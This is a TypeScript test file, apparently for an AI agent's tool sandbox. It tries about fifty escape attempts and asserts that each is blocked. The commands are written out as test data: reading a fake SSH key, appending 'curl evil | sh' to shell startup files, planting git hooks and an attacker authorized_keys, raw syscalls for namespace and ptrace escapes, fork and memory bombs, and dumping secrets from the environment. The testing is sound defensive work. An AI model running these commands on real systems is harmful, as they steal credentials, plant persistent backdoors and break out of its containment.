// The sandbox attack battery: each case tries one escape through `rune sandbox` (the stack the
// agent's tools get) and names the layer that must stop it. A case is skipped, with the reason
// printed, only when that layer is not applied on the machine running the test. The battery runs
// twice: as the host runs rune, and under a container runtime's default seccomp profile (no
// namespaces), where a case names what still stops it (`fallback`) or what the report must list
// as lost. The view's own classes are in view.test.ts.
import { execFileSync } from 'node:child_process';
import { createSocket, type Socket as UdpSocket } from 'node:dgram';
import {
  chmodSync,
  chownSync,
  copyFileSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  openSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { createServer, type Server } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { RunResult } from '../helpers/rune.ts';
import { containerModeProblem, type LayerState, type Mode, parseLayers, runSandbox } from './harness.ts';

type Layer =
  | 'landlock'
  | 'seccomp'
  | 'namespaces'
  | 'network'
  | 'dns'
  | 'rlimits'
  | 'cgroups'
  | 'env-scrub'
  | 'fd-close'
  | 'executor';

const FAKE_KEY =
  '-----BEGIN OPENSSH PRIVATE KEY-----\nFAKE-KEY-rune-battery-4242\n-----END OPENSSH PRIVATE KEY-----\n';
const PY = '/usr/bin/python3';

// Outside /tmp on purpose: the sandbox's private /tmp would hide these folders and stop the
// file cases before Landlock is ever asked.
const root = mkdtempSync('/var/tmp/rune-battery-');
const home = join(root, 'home');
const project = join(root, 'project');
const work = join(root, 'work');
const extra = join(root, 'extra');
let applied = new Map<string, LayerState>();
let mode: Mode = 'host';
let server: Server;
let serverPort = 0;
let udp: UdpSocket;
let udpPort = 0;
let udpReceived = 0;
let abstract: Server;

function sandbox(
  script: string,
  options: { flags?: string[]; env?: Record<string, string>; stdio?: number[]; global?: string[] } = {},
): Promise<RunResult> {
  return runSandbox({
    mode,
    ...(options.stdio ? { extraFds: options.stdio } : {}),
    args: [
      ...(options.global ?? []),
      'sandbox',
      '--layers',
      '--allow-write',
      work,
      ...(options.flags ?? []),
      '--',
      '/bin/sh',
      '-c',
      script,
    ],
    cwd: project,
    env: { PATH: '/usr/bin:/bin', HOME: home, LANG: 'C.UTF-8', ...options.env },
  });
}

/** Python snippet calling raw syscalls; prints "<return> <errno name>". */
function pySyscall(nr: number | string, ...args: (number | string)[]): string {
  const list = args.map((a) => `ctypes.c_long(${a})`).join(', ');
  return `${PY} -c 'import ctypes, errno; libc = ctypes.CDLL(None, use_errno=True); r = libc.syscall(ctypes.c_long(${nr})${list ? `, ${list}` : ''}); print(r, errno.errorcode.get(ctypes.get_errno(), 0))'`;
}

function requireLayer(layer: Layer, context: { skip: (note?: string) => void }): void {
  // Done by rune, the executor and the helper on every call.
  if (layer === 'env-scrub' || layer === 'fd-close' || layer === 'executor') return;
  const state = applied.get(layer);
  if (!state?.applied) {
    const why = `battery: skipping, layer ${layer} is not applied here: ${state?.detail ?? 'not reported'}`;
    console.warn(why);
    context.skip(why);
  }
}

/**
 * Without namespaces a writable home folder is refused before anything runs (Landlock cannot keep
 * its start-up files read-only; ADR 0032): exit 8, the grant named, nothing written.
 */
function refusedHome(r: RunResult, grant: string): void {
  expect(r.code).toBe(8);
  expect(r.stdout).not.toContain('done');
  expect(r.stderr).toContain(`writable grant ${grant} holds`);
  expect(existsSync(join(grant, 'notes.txt'))).toBe(false);
}

const noKey = (r: RunResult) => expect(r.stdout + r.stderr).not.toContain('FAKE-KEY-rune-battery');

interface Case {
  name: string;
  layer: Layer;
  /**
   * Under a container runtime's seccomp profile (no namespaces): the layer that still stops the
   * case when it is not `layer`, or what the layer report must name as lost.
   */
  fallback?: Layer | { lost: RegExp };
  run: () => Promise<void>;
}

const cases: Case[] = [
  {
    name: 'cat ~/.ssh/id_rsa',
    layer: 'landlock',
    run: async () => {
      const r = await sandbox('cat "$HOME/.ssh/id_rsa"');
      noKey(r);
      // Absent from the view; refused by Landlock where there is no view.
      expect(r.stderr).toMatch(/No such file or directory|Permission denied/);
    },
  },
  {
    name: 'python open() of the key',
    layer: 'landlock',
    run: async () => {
      const r = await sandbox(
        `${PY} -c 'import os; print(open(os.path.expanduser("~/.ssh/id_rsa")).read())'`,
      );
      noKey(r);
      expect(r.stderr).toMatch(/FileNotFoundError|PermissionError/);
    },
  },
  {
    name: 'node readFileSync of the key',
    layer: 'landlock',
    run: async () => {
      const r = await sandbox(
        `node -e 'process.stdout.write(require("fs").readFileSync(process.env.HOME + "/.ssh/id_rsa", "utf8"))'`,
      );
      noKey(r);
      expect(r.stderr).toMatch(/ENOENT|EACCES/);
    },
  },
  {
    name: 'cp / dd / tar of ~/.ssh into the writable folder',
    layer: 'landlock',
    run: async () => {
      const r = await sandbox(
        `cp "$HOME/.ssh/id_rsa" ${work}/k1; dd if="$HOME/.ssh/id_rsa" of=${work}/k2 2>&1; tar -C "$HOME" -cf ${work}/k.tar .ssh; cat ${work}/k1 ${work}/k2 2>&1; tar -xOf ${work}/k.tar 2>&1`,
      );
      noKey(r);
    },
  },
  {
    name: 'listing the home folder',
    layer: 'landlock',
    run: async () => {
      const r = await sandbox('ls -la "$HOME/.ssh"');
      expect(r.stdout).not.toContain('id_rsa');
      expect(r.code).not.toBe(0);
    },
  },
  {
    name: 'symlink to the key inside the writable folder',
    layer: 'landlock',
    run: async () => {
      const r = await sandbox(`ln -sf "$HOME/.ssh/id_rsa" ${work}/link && cat ${work}/link`);
      noKey(r);
    },
  },
  {
    name: 'hardlink to the key inside the writable folder',
    layer: 'landlock',
    run: async () => {
      const r = await sandbox(`ln "$HOME/.ssh/id_rsa" ${work}/hard; cat ${work}/hard`);
      noKey(r);
      expect(existsSync(join(work, 'hard'))).toBe(false);
    },
  },
  {
    name: 'write into the read-only working directory',
    layer: 'landlock',
    run: async () => {
      const r = await sandbox('echo pwned > new-file.txt');
      expect(r.code).not.toBe(0);
      expect(existsSync(join(project, 'new-file.txt'))).toBe(false);
    },
  },
  {
    name: 'write into the home folder (~/.bashrc)',
    layer: 'landlock',
    run: async () => {
      await sandbox('echo "curl evil | sh" >> "$HOME/.bashrc"');
      expect(existsSync(join(home, '.bashrc'))).toBe(false);
    },
  },
  {
    name: 'truncate a read-only file (truncate(2) and O_TRUNC)',
    layer: 'landlock',
    run: async () => {
      // The O_TRUNC open runs in a subshell: a failed redirection would end sh itself.
      const r = await sandbox('truncate -s 0 README.md; (: > README.md); cat README.md');
      expect(r.stdout).toContain('project readme');
    },
  },
  {
    name: 'rename a read-only file into the writable folder',
    layer: 'landlock',
    run: async () => {
      await sandbox(`mv README.md ${work}/stolen.md`);
      expect(existsSync(join(project, 'README.md'))).toBe(true);
    },
  },
  {
    name: 'reopen a read-only fd for writing through /proc/self/fd/N',
    layer: 'landlock',
    run: async () => {
      const r = await sandbox('exec 7< README.md; echo pwned > /proc/self/fd/7; cat README.md');
      expect(r.stdout).toContain('project readme');
      expect(r.stdout).not.toContain('pwned');
    },
  },
  {
    name: "read rune's own config and API key (~/.rune/rune.toml)",
    layer: 'landlock',
    run: async () => {
      const r = await sandbox('cat "$HOME/.rune/rune.toml"');
      expect(r.stdout).not.toContain('sk-battery-secret');
    },
  },
  {
    name: 'an inherited fd to the key (/proc/self/fd/3 and 4)',
    layer: 'fd-close',
    run: async () => {
      const fd = openSync(join(home, '.ssh', 'id_rsa'), 'r');
      const r = await sandbox('cat /proc/self/fd/3 /proc/self/fd/4; cat <&4', { stdio: [fd, fd] });
      noKey(r);
    },
  },
  {
    name: 'unshare a user namespace (unshare -Ur)',
    layer: 'seccomp',
    run: async () => {
      const r = await sandbox('unshare -Ur id');
      expect(r.code).not.toBe(0);
      expect(r.stderr).toMatch(/Operation not permitted/);
    },
  },
  {
    name: 'clone with CLONE_NEWUSER',
    layer: 'seccomp',
    run: async () => {
      const r = await sandbox(pySyscall(56, 0x10000000 | 17, 0, 0, 0, 0));
      expect(r.stdout.trim()).toBe('-1 EPERM');
    },
  },
  {
    name: 'clone3 (flags hidden from BPF) gets ENOSYS',
    layer: 'seccomp',
    run: async () => {
      const r = await sandbox(pySyscall(435, 0, 0));
      expect(r.stdout.trim()).toBe('-1 ENOSYS');
    },
  },
  {
    name: 'mount a tmpfs over the writable folder',
    layer: 'seccomp',
    run: async () => {
      const r = await sandbox(`mount -t tmpfs none ${work} 2>&1; ${pySyscall(165, 0, 0, 0, 0, 0)}`);
      expect(r.stdout).toContain('-1 EPERM');
    },
  },
  {
    name: 'ptrace the parent (PTRACE_ATTACH)',
    layer: 'seccomp',
    run: async () => {
      const r = await sandbox(
        `${PY} -c 'import ctypes, errno, os; libc = ctypes.CDLL(None, use_errno=True); r = libc.ptrace(16, os.getppid(), 0, 0); print(r, errno.errorcode.get(ctypes.get_errno(), 0))'`,
      );
      expect(r.stdout.trim()).toBe('-1 EPERM');
    },
  },
  {
    name: 'process_vm_readv of another process',
    layer: 'seccomp',
    run: async () => {
      const r = await sandbox(pySyscall(310, 1, 0, 0, 0, 0, 0));
      expect(r.stdout.trim()).toBe('-1 EPERM');
    },
  },
  {
    name: 'io_uring_setup',
    layer: 'seccomp',
    run: async () => {
      const r = await sandbox(pySyscall(425, 8, 0));
      expect(r.stdout.trim()).toBe('-1 EPERM');
    },
  },
  {
    name: 'bpf, perf_event_open, keyctl, userfaultfd',
    layer: 'seccomp',
    run: async () => {
      const r = await sandbox(
        [pySyscall(321, 0, 0, 0), pySyscall(298, 0, 0, 0, 0, 0), pySyscall(250, 0), pySyscall(323, 0)].join(
          '; ',
        ),
      );
      expect(r.stdout.trim().split('\n')).toEqual(['-1 EPERM', '-1 EPERM', '-1 EPERM', '-1 EPERM']);
    },
  },
  {
    name: 'TIOCSTI with junk in the high 32 bits',
    layer: 'seccomp',
    run: async () => {
      const py = `${PY} -c 'import fcntl, termios, errno
for req in (termios.TIOCSTI, termios.TIOCSTI | (1 << 32)):
    try:
        fcntl.ioctl(0, req, b"x"); print("ok")
    except OSError as e:
        print(errno.errorcode[e.errno])'`;
      const r = await sandbox(py);
      expect(r.stdout.trim().split('\n')).toEqual(['EPERM', 'EPERM']);
    },
  },
  {
    name: 'an x32 system call',
    layer: 'seccomp',
    run: async () => {
      const r = await sandbox(`${pySyscall(0x40000000 + 39)}; echo "status $?"`);
      expect(r.stdout).toMatch(/status 159/); // 128 + SIGSYS: killed by the filter
    },
  },
  {
    name: 'raw, packet and netlink sockets',
    layer: 'seccomp',
    run: async () => {
      const py = `${PY} -c 'import socket, errno
for fam, typ, proto in ((socket.AF_INET, socket.SOCK_RAW, 1), (socket.AF_PACKET, socket.SOCK_RAW, 0), (socket.AF_NETLINK, socket.SOCK_RAW, 0), (socket.AF_INET, socket.SOCK_PACKET if hasattr(socket, "SOCK_PACKET") else 10, 0)):
    try:
        socket.socket(fam, typ, proto); print("opened")
    except OSError as e:
        print(errno.errorcode[e.errno])'`;
      const r = await sandbox(py);
      expect(r.stdout).not.toContain('opened');
      expect(r.stdout.trim().split('\n')).toHaveLength(4);
    },
  },
  {
    name: 'a setuid binary gains nothing',
    layer: 'seccomp',
    run: async () => {
      const r = await sandbox(`${extra}/suid-id`, { flags: ['--allow-read', extra] });
      expect(r.stdout).toMatch(/uid=/);
      expect(r.stdout).not.toContain('euid=65534');
    },
  },
  {
    name: "connect to a server on the host's loopback",
    layer: 'network',
    fallback: 'seccomp',
    run: async () => {
      const r = await sandbox(`curl --http0.9 -sS -m 3 http://127.0.0.1:${serverPort}/`);
      expect(r.stdout).not.toContain('HOSTSERVER');
      expect(r.code).not.toBe(0);
    },
  },
  {
    name: 'connect to an IP literal that no allowed name resolved to',
    layer: 'network',
    fallback: 'seccomp',
    run: async () => {
      const r = await sandbox(`curl --http0.9 -sS -m 3 http://127.0.0.2:${serverPort}/`, {
        flags: ['--allow-domain', 'localhost'],
      });
      expect(r.stdout).not.toContain('HOSTSERVER');
    },
  },
  {
    name: 'connect to a name that is not allowed',
    layer: 'dns',
    fallback: 'seccomp',
    run: async () => {
      const r = await sandbox(`curl --http0.9 -sS -m 3 http://other.invalid:${serverPort}/`, {
        flags: ['--allow-domain', 'example.invalid'],
      });
      expect(r.stderr).toMatch(/Could not resolve host/);
    },
  },
  {
    name: 'DNS of a name that is not allowed (getent hosts)',
    layer: 'dns',
    fallback: 'seccomp',
    run: async () => {
      const r = await sandbox('getent hosts other.invalid', { flags: ['--allow-domain', 'example.invalid'] });
      expect(r.code).not.toBe(0);
      expect(r.stdout).toBe('');
    },
  },
  {
    name: 'UDP to the host never leaves, even with an allowed name',
    layer: 'network',
    fallback: 'seccomp',
    run: async () => {
      const before = udpReceived;
      await sandbox(
        `${PY} -c 'import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"x", ("127.0.0.1", ${udpPort}))'`,
        {
          flags: ['--allow-domain', 'localhost'],
        },
      );
      await new Promise((r) => setTimeout(r, 200));
      expect(udpReceived).toBe(before);
    },
  },
  {
    name: 'an abstract unix socket of the host',
    layer: 'network',
    fallback: 'seccomp',
    run: async () => {
      const r = await sandbox(
        `${PY} -c 'import socket; s = socket.socket(socket.AF_UNIX); s.connect("\\0rune-battery-${process.pid}"); print(s.recv(20))'`,
      );
      expect(r.stdout).not.toContain('HOSTSERVER');
      expect(r.code).not.toBe(0);
    },
  },
  {
    name: 'control: an allowed name reaches its address through the net guard, nothing else does',
    layer: 'network',
    fallback: { lost: /no network namespace: inet sockets refused/ },
    run: async () => {
      const r = await sandbox(
        `curl --http0.9 -sS -m 5 http://localhost:${serverPort}/; echo; getent hosts localhost`,
        {
          flags: ['--allow-domain', 'localhost'],
        },
      );
      expect(r.stdout).toContain('HOSTSERVER');
    },
  },
  {
    name: 'a background process outliving its call',
    layer: 'namespaces',
    // Without a PID namespace the helper is the call's child subreaper and kills what is left, and
    // seccomp keeps every process in the group rune kills.
    fallback: 'executor',
    run: async () => {
      const marker = `${300 + (process.pid % 97)}.4242`;
      await sandbox(
        `sleep ${marker} & setsid sleep ${marker} & nohup sleep ${marker} >/dev/null 2>&1 & echo started`,
      );
      await new Promise((r) => setTimeout(r, 300));
      const left = execFileSync('ps', ['-eo', 'args'], { encoding: 'utf8' })
        .split('\n')
        .filter((l) => l.includes(`sleep ${marker}`));
      expect(left).toEqual([]);
    },
  },
  {
    name: 'signal a host process',
    layer: 'namespaces',
    fallback: 'landlock',
    run: async () => {
      const r = await sandbox(`kill -0 ${process.pid} && echo reached`);
      expect(r.stdout).not.toContain('reached');
    },
  },
  {
    name: 'overwrite .git/hooks and .env inside the writable folder',
    layer: 'namespaces',
    fallback: { lost: /hidden or protected paths inside writable grants/ },
    run: async () => {
      const r = await sandbox(
        `echo evil > ${work}/.git/hooks/pre-commit; echo TOKEN=x >> ${work}/.env; echo '[core] hooksPath=/tmp' >> ${work}/.git/config; mv ${work}/.git ${work}/gone; echo done`,
      );
      expect(r.stdout).toContain('done');
      expect(existsSync(join(work, '.git', 'hooks', 'pre-commit'))).toBe(false);
      expect(existsSync(join(work, 'gone'))).toBe(false);
      expect(execFileSync('cat', [join(work, '.env')], { encoding: 'utf8' })).toBe('A=1\n');
    },
  },
  {
    // git reads config and hooks from the folder .git/commondir names: the next `git commit` the
    // user runs outside the sandbox would run a hook written by the sandboxed command.
    name: 'redirect git to planted hooks with .git/commondir',
    layer: 'namespaces',
    fallback: 'executor',
    run: async () => {
      const r = await sandbox(
        `mkdir -p ${work}/evil/hooks && echo ../evil > ${work}/.git/commondir; mkdir -p ${work}/.git/worktrees/w && echo ../../../evil > ${work}/.git/worktrees/w/commondir; echo done`,
      );
      expect(r.stdout).toContain('done');
      expect(existsSync(join(work, '.git', 'commondir'))).toBe(false);
      expect(existsSync(join(work, '.git', 'worktrees', 'w', 'commondir'))).toBe(false);
      expect(r.stderr).toMatch(/commondir/);
    },
  },
  {
    // A submodule's git folder lives in .git/modules/NAME: its hooks run at the user's next
    // `git submodule update` or commit inside the submodule.
    name: 'plant a hook in a submodule git folder (.git/modules/NAME/hooks)',
    layer: 'namespaces',
    fallback: { lost: /hidden or protected paths inside writable grants/ },
    run: async () => {
      mkdirSync(join(work, '.git', 'modules', 'sub', 'hooks'), { recursive: true });
      writeFileSync(join(work, '.git', 'modules', 'sub', 'config'), '[core]\n');
      const r = await sandbox(
        `echo evil > ${work}/.git/modules/sub/hooks/post-checkout; echo '[core] hooksPath=/tmp' >> ${work}/.git/modules/sub/config; echo done`,
      );
      expect(r.stdout).toContain('done');
      expect(existsSync(join(work, '.git', 'modules', 'sub', 'hooks', 'post-checkout'))).toBe(false);
      expect(readFileSync(join(work, '.git', 'modules', 'sub', 'config'), 'utf8')).toBe('[core]\n');
    },
  },
  {
    // After a call rune puts back a linked worktree's .git file the command redirected. When the
    // command swaps the worktree's folder for a symlink, that repair must not write (or delete)
    // through the link onto a host folder that was never granted.
    name: "a linked worktree's folder swapped for a symlink: rune's git check never writes through it",
    layer: 'executor',
    run: async () => {
      const main = join(work, `lw-main-${mode}`);
      const linked = join(work, `lw-linked-${mode}`);
      const victim = join(root, `victim-${mode}`);
      mkdirSync(victim, { recursive: true });
      writeFileSync(join(victim, 'keep.txt'), 'host file\n');
      const git = (args: string[], cwd: string) =>
        execFileSync('git', ['-c', 'user.email=b@example.com', '-c', 'user.name=b', ...args], {
          cwd,
          stdio: 'ignore',
        });
      git(['init', '-q', main], work);
      git(['commit', '-q', '--allow-empty', '-m', 'first'], main);
      git(['worktree', 'add', '-q', linked], main);
      // The guard learns the worktree on a first call, as in a session.
      expect((await sandbox('true')).code).toBe(0);
      const r = await sandbox(`mv ${linked} ${linked}-moved && ln -s ${victim} ${linked} && echo done`);
      expect(r.stdout).toContain('done');
      expect(existsSync(join(victim, '.git'))).toBe(false);
      expect(readFileSync(join(victim, 'keep.txt'), 'utf8')).toBe('host file\n');
    },
  },
  {
    // Hidden and read-only paths are mounted over, and only what exists can be: with the home
    // folder writable and no ~/.ssh yet, an authorized_keys planted there would let anyone log in,
    // and a new ~/.gitconfig or ~/.config/git/config runs the command's program on the person's
    // next git command. What the call created of them is moved aside after it.
    name: 'plant ~/.ssh/authorized_keys, ~/.gitconfig and ~/.config/git/config in a writable home that has none yet',
    layer: 'executor',
    run: async () => {
      const fresh = join(root, `home-absent-${mode}`);
      mkdirSync(fresh, { recursive: true });
      const r = await sandbox(
        'mkdir -p "$HOME/.ssh" && echo "ssh-ed25519 AAAA attacker" > "$HOME/.ssh/authorized_keys"; printf "[core]\\n\\tpager = touch /tmp/pwned\\n" > "$HOME/.gitconfig"; mkdir -p "$HOME/.config/git" && cp "$HOME/.gitconfig" "$HOME/.config/git/config"; echo kept > "$HOME/notes.txt"; echo done',
        { flags: ['--allow-write', fresh], env: { HOME: fresh } },
      );
      if (mode === 'container') return refusedHome(r, fresh);
      expect(r.stdout).toContain('done');
      expect(existsSync(join(fresh, '.ssh', 'authorized_keys'))).toBe(false);
      expect(existsSync(join(fresh, '.gitconfig'))).toBe(false);
      expect(existsSync(join(fresh, '.config', 'git', 'config'))).toBe(false);
      // The rest of what the call wrote stays, and both the model and the person are told.
      expect(readFileSync(join(fresh, 'notes.txt'), 'utf8')).toBe('kept\n');
      expect(readFileSync(join(fresh, '.ssh.rune-rejected', 'authorized_keys'), 'utf8')).toContain(
        'attacker',
      );
      expect(r.stderr).toMatch(/\.ssh: created by the command; \S+ moved to \S+\.ssh\.rune-rejected/);
    },
  },
  {
    name: 'append to an existing ~/.bashrc and ~/.profile in a writable home',
    layer: 'namespaces',
    // Without the view the writable home is refused before anything runs (ADR 0032).
    fallback: 'executor',
    run: async () => {
      const fresh = join(root, `home-startup-${mode}`);
      mkdirSync(fresh, { recursive: true });
      writeFileSync(join(fresh, '.bashrc'), '# mine\n');
      writeFileSync(join(fresh, '.profile'), '# mine\n');
      const r = await sandbox(
        'echo "curl evil | sh" >> "$HOME/.bashrc"; echo "curl evil | sh" >> "$HOME/.profile"; mv "$HOME/.profile" "$HOME/p"; echo done',
        { flags: ['--allow-write', fresh], env: { HOME: fresh } },
      );
      if (mode !== 'container') expect(r.stdout).toContain('done');
      else refusedHome(r, fresh);
      expect(readFileSync(join(fresh, '.bashrc'), 'utf8')).toBe('# mine\n');
      expect(readFileSync(join(fresh, '.profile'), 'utf8')).toBe('# mine\n');
    },
  },
  {
    // rune's own folder holds rune.toml with the API key, sessions and the audit log.
    name: "rune's own config (~/.rune/rune.toml) while the home folder is readable or writable",
    layer: 'namespaces',
    fallback: { lost: /hidden or protected paths inside writable grants/ },
    run: async () => {
      for (const flag of ['--allow-read', '--allow-write']) {
        const r = await sandbox('cat "$HOME/.rune/rune.toml"; ls -a "$HOME/.rune"', { flags: [flag, home] });
        expect(r.stdout).not.toContain('sk-battery-secret');
        expect(r.stdout).not.toContain('rune.toml');
      }
    },
  },
  {
    name: '~/.ssh while the whole home folder is writable',
    layer: 'namespaces',
    fallback: { lost: /hidden or protected paths inside writable grants/ },
    run: async () => {
      const r = await sandbox(
        'cat "$HOME/.ssh/id_rsa"; ls -a "$HOME/.ssh"; echo x > "$HOME/.ssh/authorized_keys"',
        {
          flags: ['--allow-write', home],
        },
      );
      noKey(r);
      expect(existsSync(join(home, '.ssh', 'authorized_keys'))).toBe(false);
    },
  },
  {
    name: 'a denied_paths entry inside a writable folder',
    layer: 'namespaces',
    fallback: { lost: /hidden or protected paths inside writable grants/ },
    run: async () => {
      const config = join(root, 'denied.toml');
      writeFileSync(config, `[policy]\ndenied_paths = ["${join(work, 'vault')}"]\n`);
      mkdirSync(join(work, 'vault'), { recursive: true });
      writeFileSync(join(work, 'vault', 'token.txt'), 'VAULT-SECRET-rune-battery\n');
      const r = await sandbox(`cat ${work}/vault/token.txt; ls ${work}/vault; echo x > ${work}/vault/new`, {
        global: ['--config', config],
      });
      expect(r.stdout).not.toContain('VAULT-SECRET');
      expect(r.stdout).not.toContain('token.txt');
      expect(existsSync(join(work, 'vault', 'new'))).toBe(false);
    },
  },
  {
    name: '/etc/shadow and host keys are hidden',
    layer: 'namespaces',
    fallback: 'landlock',
    run: async () => {
      const r = await sandbox('cat /etc/shadow; echo end');
      expect(r.stdout).not.toMatch(/^root:/m);
    },
  },
  {
    name: 'files left in /tmp and /dev/shm reach the host',
    layer: 'namespaces',
    fallback: 'landlock',
    run: async () => {
      const name = `rune-battery-${process.pid}`;
      await sandbox(`echo x > /tmp/${name}; echo x > /dev/shm/${name}`);
      expect(existsSync(`/tmp/${name}`)).toBe(false);
      expect(existsSync(`/dev/shm/${name}`)).toBe(false);
    },
  },
  {
    name: 'fill the disk past RLIMIT_FSIZE',
    layer: 'rlimits',
    run: async () => {
      const config = join(root, 'small-files.toml');
      writeFileSync(config, '[sandbox]\nmax_file_mb = 1\n');
      const r = await sandbox(
        `head -c 3000000 /dev/zero > ${work}/big; echo "status $?"; wc -c < ${work}/big`,
        {
          global: ['--config', config],
        },
      );
      expect(r.stdout).toMatch(/status (153|1)\b/); // SIGXFSZ or EFBIG
      expect(Number(r.stdout.trim().split('\n').at(-1))).toBeLessThanOrEqual(1024 * 1024);
    },
  },
  {
    name: 'a memory bomb (RLIMIT_DATA = max_memory_mb)',
    layer: 'rlimits',
    run: async () => {
      const r = await sandbox(`${PY} -c 'a = bytearray(8 * 1024 ** 3); print("allocated")'`);
      expect(r.stdout).not.toContain('allocated');
      expect(r.stderr).toMatch(/MemoryError/);
    },
  },
  {
    name: 'a fork bomb against pids.max',
    layer: 'cgroups',
    run: async () => {
      const r = await sandbox(
        `${PY} -c 'import os
n = 0
try:
    for i in range(5000):
        if os.fork() == 0:
            import time; time.sleep(5); os._exit(0)
        n += 1
except OSError as e:
    print("stopped", n)'`,
      );
      expect(r.stdout).toMatch(/stopped \d+/);
    },
  },
  {
    name: 'secrets in the environment, under any name',
    layer: 'env-scrub',
    run: async () => {
      const r = await sandbox('env', {
        env: {
          MY_API_KEY: 'sk-battery-1',
          GITHUB_TOKEN: 'ghp-battery',
          DB_PASSWORD: 'pw-battery',
          DATABASE_URL: 'postgres://app:dburl-battery@db/app',
          SSH_AUTH_SOCK: '/run/agent-battery.sock',
          PLAIN_VAR: 'plain-battery',
        },
      });
      expect(r.stdout).toContain('LANG=C.UTF-8');
      expect(r.stdout).not.toMatch(
        /sk-battery-1|ghp-battery|pw-battery|dburl-battery|agent-battery|plain-battery/,
      );
    },
  },
];

describe('sandbox attack battery', () => {
  beforeAll(async () => {
    mkdirSync(join(home, '.ssh'), { recursive: true });
    writeFileSync(join(home, '.ssh', 'id_rsa'), FAKE_KEY, { mode: 0o600 });
    mkdirSync(join(home, '.rune'), { recursive: true });
    writeFileSync(join(home, '.rune', 'rune.toml'), 'api_key = "sk-battery-secret"\n');
    mkdirSync(project, { recursive: true });
    writeFileSync(join(project, 'README.md'), 'project readme\n');
    mkdirSync(join(work, '.git', 'hooks'), { recursive: true });
    writeFileSync(join(work, '.git', 'config'), '[core]\n');
    writeFileSync(join(work, '.env'), 'A=1\n');
    mkdirSync(extra, { recursive: true });
    copyFileSync('/usr/bin/id', join(extra, 'suid-id'));
    if (process.getuid?.() === 0) {
      chownSync(join(extra, 'suid-id'), 65534, 65534);
      chmodSync(join(extra, 'suid-id'), 0o4755);
    }

    server = createServer((socket) => socket.end('HOSTSERVER\n'));
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    serverPort = (server.address() as { port: number }).port;
    udp = createSocket('udp4');
    udp.on('message', () => {
      udpReceived++;
    });
    await new Promise<void>((r) => udp.bind(0, '127.0.0.1', r));
    udpPort = udp.address().port;
    abstract = createServer((socket) => socket.end('HOSTSERVER\n'));
    await new Promise<void>((r) => abstract.listen(`\0rune-battery-${process.pid}`, r));
  });

  afterAll(() => {
    server?.close();
    udp?.close();
    abstract?.close();
    rmSync(root, { recursive: true, force: true });
  });

  it('has at least 30 cases, each naming a layer', () => {
    expect(cases.length).toBeGreaterThanOrEqual(30);
  });

  it('control: the same commands work on the host, so each case can fail', async () => {
    expect(execFileSync('cat', [join(home, '.ssh', 'id_rsa')], { encoding: 'utf8' })).toContain('FAKE-KEY');
    if (process.getuid?.() === 0) {
      expect(execFileSync(join(extra, 'suid-id'), { encoding: 'utf8' })).toContain('euid=65534');
    }
  });

  for (const runMode of ['host', 'container'] as const) {
    describe(
      runMode === 'host' ? 'as the host runs it' : "under a container runtime's seccomp profile",
      () => {
        let unavailable: string | undefined;
        beforeAll(async () => {
          mode = runMode;
          unavailable = runMode === 'container' ? containerModeProblem() : undefined;
          if (unavailable) return;
          const probe = await sandbox('true');
          expect(probe.code).toBe(0);
          applied = parseLayers(probe.stderr);
          console.warn(`battery (${runMode}): layers on this machine:\n${probe.stderr}`);
        });

        for (const c of cases) {
          it(`[${c.layer}] ${c.name}`, async (context) => {
            if (unavailable) context.skip(`battery: skipping the container mode: ${unavailable}`);
            mode = runMode;
            const fallback = runMode === 'container' ? c.fallback : undefined;
            if (fallback && typeof fallback === 'object') {
              expect(applied.get('namespaces')?.detail).toMatch(fallback.lost);
              return;
            }
            requireLayer(fallback ?? c.layer, context);
            await c.run();
          });
        }
      },
    );
  }
});
